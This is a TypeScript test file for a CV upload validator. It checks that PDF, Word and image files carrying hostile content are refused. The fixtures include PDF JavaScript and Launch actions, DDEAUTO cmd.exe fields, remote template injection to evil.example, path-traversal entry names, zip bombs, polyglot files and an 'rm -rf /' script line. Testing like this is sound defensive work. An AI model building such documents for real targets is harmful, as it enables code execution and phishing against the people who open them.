import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { APPLICATION_FILE_BYTES } from '../../../../src/schemas/application.ts';
import { jpeg, photograph, png } from '../../media/test-pictures.ts';
import { checkCv } from './check-cv.ts';
import { CvProblem } from './cv-problem.ts';
import {
  bytesOf,
  compound,
  doc,
  docx,
  docxParts,
  packedObjects,
  pdf,
  relation,
  wordStream,
  zip,
} from './test-files.ts';

type Bytes = Uint8Array<ArrayBuffer>;
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

/** The type of a file that is taken, or the reason why it is not. */
function verdict(bytes: Bytes, name = 'cv.pdf'): string {
  try {
    return checkCv({ name, bytes }).type;
  } catch (error) {
    if (error instanceof CvProblem) return error.message;
    throw error;
  }
}
const samples = async (): Promise<readonly (readonly [string, Bytes])[]> => [
  ['application/pdf', pdf([packedObjects('<< /Title (CV) >>')])],
  ['application/msword', doc()],
  [DOCX, docx()],
  ['image/jpeg', await jpeg()],
  ['image/png', await png()],
];

test('what is taken is known by its content, whatever its name says', async () => {
  for (const [type, bytes] of await samples()) {
    for (const name of ['cv.pdf', 'cv.exe', '']) expect([type, verdict(bytes, name)]).toEqual([type, type]);
  }
});
test('the record says what the file is; its bytes are not touched', () => {
  const bytes = pdf();
  const before = bytes.slice();
  expect(checkCv({ name: 'สมัครงาน.PDF', bytes })).toEqual({
    name: 'สมัครงาน.PDF',
    size: bytes.length,
    type: 'application/pdf',
    sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
  });
  expect(bytes).toEqual(before);
});

describe('size', () => {
  test('0 bytes, and one byte above 4,194,304', () => {
    expect(verdict(new Uint8Array())).toBe('emptyFile');
    const full = pdf([{ dictionary: '', stream: 'x'.repeat(APPLICATION_FILE_BYTES - 1_000) }]);
    const padded = bytesOf(full, ' '.repeat(APPLICATION_FILE_BYTES - full.length));
    expect([padded.length, verdict(padded)]).toEqual([APPLICATION_FILE_BYTES, 'application/pdf']);
    expect(verdict(bytesOf(padded, ' '))).toBe('fileTooLarge');
  });
});

describe('what is none of the kinds', () => {
  test.each([
    ['a program', 'MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff'],
    ['a program of Linux', '\x7fELF\x02\x01\x01\0'],
    ['a program of a Mac', '\xcf\xfa\xed\xfe\x07\0\0\x01'],
    ['a script', '#!/bin/sh\nrm -rf /\n'],
    ['a page', '<!doctype html><script>alert(1)</script>'],
    ['a drawing', '<svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['RTF', '{\\rtf1\\ansi hello}'],
    ['text', 'Dear madam or sir'],
    ['a page before a PDF', `<script>alert(1)</script>${'%PDF-1.7'}`],
    ['GIF', 'GIF89a'],
    ['RAR', 'Rar!\x1a\x07\0'],
    ['a single byte', 'P'],
  ])('%s', (_, text) => {
    expect(verdict(bytesOf(text))).toBe('wrongFileKind');
  });
  test('a program in front of a real PDF', () => {
    expect(verdict(bytesOf('MZ\x90\0', pdf()))).toBe('wrongFileKind');
  });
  test('archives and documents of other programs', () => {
    expect(verdict(zip([{ name: 'setup.exe', content: 'MZ' }]))).toBe('wrongFileKind');
    const sheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
    expect(verdict(docx([], { main: sheet }))).toBe('wrongFileKind');
    expect(verdict(zip([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text' }]))).toBe(
      'wrongFileKind',
    );
    expect(verdict(compound([{ name: 'Workbook', content: Buffer.alloc(4096) }]))).toBe('wrongFileKind');
  });
});

describe('cut short', () => {
  test('anywhere, each kind is refused', async () => {
    for (const [type, bytes] of await samples()) {
      const step = Math.max(1, Math.floor(bytes.length / 300));
      for (let length = 1; length < bytes.length - 1; length += step) {
        expect([type, length, verdict(bytes.slice(0, length))]).not.toEqual([type, length, type]);
      }
    }
  });
});

describe('PDF', () => {
  /** With another beginning of its streams. */
  const respelt = (file: Bytes, beginning: string): Bytes =>
    bytesOf(Buffer.from(file).toString('latin1').replaceAll('>>\nstream\n', beginning));
  const action = '<< /S /JavaScript /JS (app.alert(1)) >>';
  const packedAction = {
    dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
    stream: deflateSync(`9 0 ${action}`),
  };
  test.each([
    ['a script when it is opened', pdf([action], { catalogue: '/OpenAction 5 0 R' })],
    ['a script under an escaped name', pdf(['<< /S /J#61vaScript /JS (x) >>'])],
    ['a script in its names', pdf([], { catalogue: '/Names << /JavaScript 9 0 R >>' })],
    ['a script among packed objects', pdf([packedObjects(action)])],
    ['a script among objects packed by nothing', pdf([packedObjects(action, '')])],
    ['a script behind a bracket that never closes', pdf(['(', action])],
    [
      'a script in what looks like the content of a page',
      pdf([{ dictionary: '', stream: `6 0 obj ${action} endobj` }]),
    ],
    [
      'packed objects in what looks like the content of a page',
      pdf([{ dictionary: '', stream: '<< /Type /ObjStm >> stream' }]),
    ],
    [
      'packed objects under a rare method',
      pdf([packedObjects('<< >>', '/Filter [/ASCIIHexDecode /FlateDecode]')]),
    ],
    ['a program that starts', pdf(['<< /S /Launch /F (cmd.exe) >>'])],
    ['an attached file', pdf([{ dictionary: '/Type /EmbeddedFile', stream: 'MZ' }])],
    ['a list of attached files', pdf([], { catalogue: '/Names << /EmbeddedFiles 9 0 R >>' })],
    ['a film', pdf(['<< /Type /Annot /Subtype /RichMedia >>'])],
    ['a form with a program of its own', pdf(['<< /XFA 9 0 R >>'])],
    ['such a form in pieces', pdf(['<< /XFA [(template) 9 0 R] >>'])],
    [
      'packed objects whose dictionary holds a word of our reader',
      pdf([{ ...packedAction, dictionary: `${packedAction.dictionary} /X (obj)` }]),
    ],
    ['packed objects behind a comment', respelt(pdf([packedAction]), '>>%\nstream\n')],
    ['packed objects behind a zero', respelt(pdf([packedAction]), '>>\0\nstream\n')],
    [
      'a stream in a comment',
      pdf([`<< /X 1 %>>\nstream\n>> endobj 6 0 obj << /EF << >> >>`, { dictionary: '', stream: '' }]),
    ],
    ['packed objects behind blanks', respelt(pdf([packedAction]), '>>\nstream \n')],
    [
      'a script behind a comment in what looks like the content of a page',
      pdf([{ dictionary: '', stream: `6 0 obj << /S%\n%x\r /JavaScript /JS (x) >> endobj` }]),
    ],
    [
      'a script by a detour in what looks like the content of a page',
      pdf([{ dictionary: '', stream: '6 0 obj << /S 7 0 R /JS (x) >> endobj 7 0 obj /JavaScript endobj' }]),
    ],
    [
      'unnamed packed objects in what looks like the content of a page',
      pdf([{ dictionary: '', stream: '6 0 obj << /N 1 /First 4 /Filter /FlateDecode >>\nstream\nx' }]),
    ],
    ['a script, and a list behind it', pdf(['<< /S%\n/JavaScript [ ] /JS (app.alert(1)) >>'])],
    ['an archive behind it', bytesOf(pdf(), docx())],
    ['an archive behind it, and an end behind that', bytesOf(pdf(), docx(), '\nstartxref\n9\n%%EOF\n')],
    ['a program behind it', bytesOf(pdf(), 'MZ\x90\0'.repeat(200))],
  ])('with %s is harmful', (_, file) => {
    expect(verdict(file)).toBe('harmfulFile');
  });
  test.each([
    [
      'JavaScript among the skills, in open text',
      pdf([{ dictionary: '', stream: '(HTML/JavaScript/Launch) Tj' }]),
    ],
    ['JavaScript in its title', pdf(['<< /Title (Senior React/JavaScript Developer \\(Node\\)) >>'])],
    ['a heading called JavaScript', pdf(['<< /Dests << /JavaScript [3 0 R /XYZ 0 0 0] >> >>'])],
    [
      'an action that goes to a page',
      pdf(['<< /S /GoTo /D [3 0 R /Fit] >>', '<< /S /URI /URI (https://example.com) >>']),
    ],
    ['blanks and zeros at its end', bytesOf(pdf(), '\r\n\0\0 ')],
    ['a mark of the order of bytes', bytesOf('\xef\xbb\xbf', pdf())],
  ])('with %s is taken', (_, file) => {
    expect(verdict(file)).toBe('application/pdf');
  });
  test('under a password is locked', () => {
    expect(verdict(pdf(['<< /Filter /Standard /V 2 >>'], { trailer: '/Encrypt 5 0 R' }))).toBe('lockedFile');
  });
  test('whose packed objects unfold without end is harmful', () => {
    const bomb = deflateSync(Buffer.alloc(40 * 1024 * 1024));
    expect(
      verdict(pdf([{ dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', stream: bomb }])),
    ).toBe('harmfulFile');
  });
  test('of nothing but a head and an end is broken', () => {
    expect(verdict(bytesOf('%PDF-1.7\nstartxref\n0\n%%EOF\n'))).toBe('brokenFile');
    expect(verdict(bytesOf('%PDF-1.7\n'))).toBe('brokenFile');
  });
});

describe('DOCX', () => {
  const part = (name: string, content: Uint8Array | string = 'x') => ({ name, content });
  test.each([
    ['macros', docx([part('word/vbaProject.bin', 'x')])],
    ['macros in another folder', docx([part('custom/VBAPROJECT.bin')])],
    [
      'the type of a document with macros',
      docx([], { main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    ],
    [
      'a type of macros alone',
      docx([], { more: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' }),
    ],
    [
      'a disguised type of macros',
      docx([], { more: '<Default Extension="x" ContentType="application/vnd.ms-office.vba&#80;roject"/>' }),
    ],
  ])('with %s is one with macros', (_, file) => {
    expect(verdict(file, 'cv.docx')).toBe('fileWithMacros');
  });
  test.each([
    ['a way out of the archive', docx([part('../../etc/cron.d/x')])],
    ['a way out for Windows', docx([part('word\\..\\..\\x')])],
    ['an absolute name', docx([part('/etc/passwd')])],
    ['a name on a drive', docx([part('C:/autoexec.bat')])],
    ['one name twice', docx([part('word/DOCUMENT.xml')])],
    ['two names for one part', docx([{ ...part('word/a.xml'), says: { localName: 'word/b.xml' } }])],
    ['a program', docx([part('word/media/image1.png', bytesOf('MZ\x90\0\x03'))])],
    ['a packed object', docx([part('word/embeddings/oleObject1.bin', compound([]))])],
    ['a control', docx([part('word/activeX/activeX1.xml')])],
    [
      'an archive in an archive in it',
      docx([part('word/embeddings/a.xlsx', zip([part('b.zip', zip([part('c')]))]))]),
    ],
    [
      'a field that starts a program',
      docx([
        part(
          'word/header1.xml',
          '<w:instrText> DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe </w:instrText>',
        ),
      ]),
    ],
    ['a template from elsewhere', docx([relation('attachedTemplate', 'https://evil.example/t.dotm')])],
    [
      'a template under a disguised address',
      docx([relation('attachedTemplate', '&#104;ttps://evil.example/t')]),
    ],
    ['a template on a share', docx([relation('attachedTemplate', 'file:///\\\\evil.example\\t.dotm')])],
    [
      'a template whose kind is disguised',
      docx([relation('attached&#84;emplate', 'https://evil.example/t')]),
    ],
    [
      'a template behind a bracket in another attribute',
      docx([relation('attachedTemplate" Id="a>b', 'https://evil.example/t')]),
    ],
    [
      'a template behind an attribute of another kind',
      docx([
        {
          ...relation('', ''),
          content:
            '<Relationship x:Type="x" x:Target="Normal.dotm" Type="a/attachedTemplate" Target="https://evil.example/t" TargetMode="External"/>',
        },
      ]),
    ],
    [
      'a template on a share, its slashes disguised',
      docx([relation('attachedTemplate', 'file:///%5C%5Cevil.example%5Ct.dotm')]),
    ],
    [
      'a field that starts a program under another prefix',
      docx([part('word/header1.xml', '<x:instrText> DDEAUTO c:\\cmd.exe </x:instrText>')]),
    ],
    [
      'a disguised field that starts a program',
      docx([part('word/header1.xml', '<w:instrText> D&#68;&#x45;AUTO c:\\cmd.exe </w:instrText>')]),
    ],
    [
      'a field that starts a program among raw text',
      docx([part('word/header1.xml', '<w:instrText><![CDATA[DDEAUTO c:\\cmd.exe ]]></w:instrText>')]),
    ],
    ['a part in RTF', docx([part('word/afchunk.dat', '{\\rtf1{\\object}}')])],
    [
      'a control in another folder',
      docx([part('word/x/control.xml')], {
        more: '<Override PartName="/word/x/control.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
      }),
    ],
    ['an object from elsewhere', docx([relation('oleObject', 'mhtml:http://evil.example/x!x-usc:')])],
    ['something between its parts', zip(docxParts(), { between: 'MZ'.repeat(40) })],
    ['something behind it', bytesOf(docx(), '<script>alert(1)</script>')],
    ['a comment', zip(docxParts(), { comment: 'MZ' })],
    ['a thousand parts and one', docx(Array.from({ length: 998 }, (_, place) => part(`x/${place}`)))],
  ])('with %s is harmful', (_, file) => {
    expect(verdict(file, 'cv.docx')).toBe('harmfulFile');
  });
  test.each([
    ['a table behind a chart', docx([part('word/embeddings/a.xlsx', zip([part('xl/workbook.xml')]))])],
    [
      'fields of its own',
      docx([part('word/footer1.xml', '<w:instrText> PAGE </w:instrText><w:fldSimple w:instr=" TOC "/>')]),
    ],
    ['a link', docx([relation('hyperlink', 'https://example.com')])],
    ['its own template', docx([relation('attachedTemplate', 'file:///C:/Users/Somying/Normal.dotm')])],
    ['a template by its name alone', docx([relation('attachedTemplate', 'Normal.dotm')])],
    [
      'a template on a Mac',
      docx([relation('attachedTemplate', 'file://localhost/Users/somying/Normal.dotm')]),
    ],
    ['a larger picture', docx([part('word/media/image1.emf', Buffer.alloc(2 * 1024 * 1024, 'picture'))])],
  ])('with %s is taken', (_, file) => {
    expect(verdict(file)).toBe(DOCX);
  });
  test('that lacks its text is no document', () => {
    expect(verdict(zip(docxParts().filter(({ name }) => name !== 'word/document.xml')))).toBe(
      'wrongFileKind',
    );
  });
  test('with an encrypted part is locked, as is one under a password', () => {
    expect(verdict(docx([{ name: 'x', content: 'x', says: { flags: 1 } }]))).toBe('lockedFile');
    expect(verdict(compound([{ name: 'EncryptedPackage', content: Buffer.alloc(4096) }]))).toBe('lockedFile');
  });
  test('a bomb that owns up, and bombs that do not', () => {
    const zeros = (size: number) => Buffer.alloc(size);
    expect(verdict(docx([part('word/a.xml', zeros(10_000_000))]))).toBe('harmfulFile');
    const lying = { name: 'word/a.xml', content: zeros(60_000_000), says: { size: 1_000 } };
    expect(verdict(docx([lying]))).toBe('harmfulFile');
    const inner = zip([part('a', zeros(9_000_000))]);
    expect(verdict(docx([part('word/embeddings/a.xlsx', inner)]))).toBe('harmfulFile');
    const many = Array.from({ length: 15 }, (_, place) =>
      part(`word/embeddings/${place}.xlsx`, zip([part('a', zeros(7_000_000))])),
    );
    expect(verdict(docx(many))).toBe('harmfulFile');
  });
  test('parts that overlap, by which a small bomb unfolds to much', () => {
    const file = Buffer.from(docx([part('a'), part('b')]));
    const last = file.lastIndexOf('PK\x01\x02', undefined, 'latin1');
    const before = file.lastIndexOf('PK\x01\x02', last - 1, 'latin1');
    // Of the two, the first is said to reach into the second.
    file.writeUInt32LE(file.readUInt32LE(before + 20) + 8, before + 20);
    expect(verdict(new Uint8Array(file))).toBe('harmfulFile');
    // Both are said to be one and the same.
    file.copyWithin(last + 42, before + 42, before + 47);
    expect(verdict(new Uint8Array(file))).toBe('harmfulFile');
  });
  test('with a bit turned in a part is broken', () => {
    const file = docx([part('word/media/a.bin', Buffer.from('x'.repeat(500)))]);
    const at = Buffer.from(file).indexOf('word/media/a.bin') + 'word/media/a.bin'.length + 2;
    file[at] = (file[at] ?? 0) ^ 0x10;
    expect(verdict(file)).toBe('brokenFile');
  });
});

describe('DOC', () => {
  test.each([
    [
      'macros',
      doc([{ name: 'Macros' }, { name: '_VBA_PROJECT', content: Buffer.alloc(4096) }]),
      'fileWithMacros',
    ],
    ['a password', doc([], wordStream(0x1300)), 'lockedFile'],
    [
      'a packed file',
      doc([{ name: '\u0001Ole10Native', content: Buffer.alloc(4096, '\0\x10\0\0\x02\0') }]),
      'harmfulFile',
    ],
    [
      'a field that starts a program',
      doc([{ name: 'Data', content: Buffer.alloc(4096, '\x13 DDEAUTO cmd ', 'utf16le') }]),
      'harmfulFile',
    ],
    ['an archive behind it', bytesOf(doc(), docx()), 'harmfulFile'],
    ['much behind it', bytesOf(doc(), 'x'.repeat(80_000)), 'harmfulFile'],
    ['another beginning', doc([], Buffer.alloc(4096)), 'brokenFile'],
  ])('with %s: %s', (_, file, reason) => {
    expect(verdict(file, 'cv.doc')).toBe(reason);
  });
  test('with a theme, which Word keeps in an archive within it, is taken', () => {
    const theme = Buffer.alloc(8_192);
    theme.set(zip([{ name: 'theme/theme1.xml', content: '<a:theme/>' }]), 100);
    expect(verdict(doc([{ name: 'Data', content: theme }]))).toBe('application/msword');
  });
  test('whose chains bite their tails ends', () => {
    const file = Buffer.from(doc());
    for (let entry = 0; entry < 40; entry++) file.writeUInt32LE(1, 512 + entry * 4);
    expect(verdict(new Uint8Array(file))).toBe('brokenFile');
  });
});

describe('a scan', () => {
  test('as a phone makes it is taken, with the place where it was taken', async () => {
    expect(verdict(await photograph('jpeg'))).toBe('image/jpeg');
  });
  test('with something behind it is harmful', async () => {
    for (const picture of [await jpeg(), await png()]) {
      expect(verdict(bytesOf(picture, docx()))).toBe('harmfulFile');
      expect(verdict(bytesOf(picture, '<script>alert(1)</script>'))).toBe('harmfulFile');
    }
    expect(verdict(bytesOf(await jpeg(), await jpeg(), docx()))).toBe('harmfulFile');
  });
  test('of more pixels than any scanner makes is refused', async () => {
    const file = await sharp({
      create: { width: 12_000, height: 9_000, channels: 3, background: '#fff' },
      limitInputPixels: false,
    })
      .png({ compressionLevel: 1 })
      .toBuffer();
    expect(verdict(new Uint8Array(file))).toBe('hugePicture');
  });
});

test('random damage to any of them is taken or refused, and never fails in another way', async () => {
  for (const [, bytes] of await samples()) {
    const damage = fc.array(fc.tuple(fc.nat(bytes.length - 1), fc.nat(255)), { minLength: 1, maxLength: 12 });
    fc.assert(
      fc.property(damage, fc.nat(bytes.length), (changes, cut) => {
        const damaged = bytes.slice(0, changes.length % 3 === 0 ? cut : undefined);
        for (const [at, value] of changes) damaged[at] = value;
        expect(typeof verdict(damaged)).toBe('string');
      }),
      { numRuns: 300 },
    );
  }
});
test('random bytes after any beginning never fail in another way', () => {
  const heads = [
    '%PDF-1.7\n',
    'PK\x03\x04',
    '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
    '\xff\xd8\xff',
    '\x89PNG\r\n\x1a\n',
  ];
  fc.assert(
    fc.property(fc.constantFrom(...heads), fc.uint8Array({ maxLength: 3_000 }), (head, rest) => {
      expect(typeof verdict(bytesOf(head, rest))).toBe('string');
    }),
    { numRuns: 500 },
  );
});

describe('files made to take long are answered as soon as others', () => {
  const much = (text: string, bytes = 3_000_000) => text.repeat(Math.floor(bytes / text.length));
  const files: readonly (readonly [string, Bytes])[] = [
    ...[
      '(',
      '<',
      '<<',
      '[',
      '/S ',
      '/S%',
      '1%',
      '%\n',
      '1 1',
      '/',
      '%',
      '1 ',
      '1 0 obj ',
      '>>stream\n',
      '>>stream\nendstream',
      '#4a',
      '(\\',
    ].map(
      (text) =>
        [`PDF of ${JSON.stringify(text)}`, bytesOf(pdf(), much(text), '\nstartxref\n0\n%%EOF\n')] as const,
    ),
    ...[
      '<',
      '<w:instrText',
      '<!--',
      '<![CDATA[',
      '<![CDATA[]]>',
      '&#68;',
      '<Relationship a="',
      '<Relationship ',
      ' w:instr="',
      ' w:instr=',
      '<a:',
      'DDE ',
    ].map(
      (text) =>
        [
          `DOCX of ${JSON.stringify(text)}`,
          docx([
            { name: 'word/a.xml', content: much(text, 8_000_000) },
            { name: 'word/_rels/a.rels', content: much(text, 8_000_000) },
            {
              name: 'word/noise.bin',
              content: randomBytes(250_000),
            },
          ]),
        ] as const,
    ),
    ['DOC of fields', doc([{ name: 'Data', content: Buffer.from(much('\x13 ', 30_000)) }])],
  ];
  test.each(files)('%s', (_, file) => {
    const start = process.cpuUsage().user;
    verdict(file);
    expect((process.cpuUsage().user - start) / 1_000).toBeLessThan(4_000);
  });
  test('a name of megabytes', () => {
    for (const letter of ['.', ' ', 'ก', '/', '\u202e']) {
      expect(checkCv({ name: `${letter.repeat(3_000_000)}x`, bytes: pdf() }).name.length).toBeLessThan(241);
    }
  });
});
